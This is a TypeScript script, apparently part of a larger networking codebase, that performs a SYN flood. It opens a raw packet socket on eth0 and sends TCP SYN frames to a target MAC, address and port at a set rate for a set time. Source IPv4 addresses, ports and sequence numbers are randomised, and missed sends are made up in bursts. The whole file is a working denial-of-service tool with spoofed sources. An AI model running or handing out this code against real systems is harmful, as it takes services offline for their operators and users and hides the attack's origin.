/**
 * syn-flood.ts FROM-MAC MAC ADDRESS PORT RATE SECONDS: SYNs from random addresses over eth0, so many a second; what comes late is made up
 * for. Prints {sent, refused}; refused: the interface did not take the frame.
 */
import * as libc from '../../runtime/ports/sockets/linux/libc.ts'
import { sleepMs } from '../failover/precision.ts'
import { publicSource, SynFrame } from './syn-frame.ts'

const IPV4 = 0x0800
/** The most that is made up for after a pause. */
const BURST_MAX = 2000
const FIRST_PORT = 1024

const [fromMac = '', mac = '', address = '', port, rate, seconds] = process.argv.slice(2)
const frame = new SynFrame({ fromMac, mac, address, port: Number(port) })
const fd = libc.socket(libc.AF_PACKET, libc.SOCK_RAW, 0)
const device = libc.sockaddrLinkLayer(libc.if_nametoindex('eth0'), IPV4, new Uint8Array(6))
if (fd < 0 || libc.bind(fd, device, device.length) < 0) throw new Error('no packet socket')

let sent = 0
let refused = 0

function sendOne(): void {
  frame.write({
    source: publicSource(Math.random),
    port: FIRST_PORT + Math.floor(Math.random() * (65_536 - FIRST_PORT)),
    sequence: Math.floor(Math.random() * 2 ** 32),
  })
  if (libc.sendto(fd, frame.bytes, frame.bytes.length, 0, device, device.length) < 0) refused++
  else sent++
}

const perMs = Number(rate) / 1000
const beganMs = performance.now()
const endMs = beganMs + Number(seconds) * 1000
let due = 0
for (let atMs = beganMs; atMs < endMs; atMs = performance.now()) {
  const behind = Math.floor((atMs - beganMs) * perMs) - due
  due += behind
  for (let left = Math.min(behind, BURST_MAX); left > 0; left--) sendOne()
  sleepMs(1)
}
console.log(JSON.stringify({ sent, refused }))
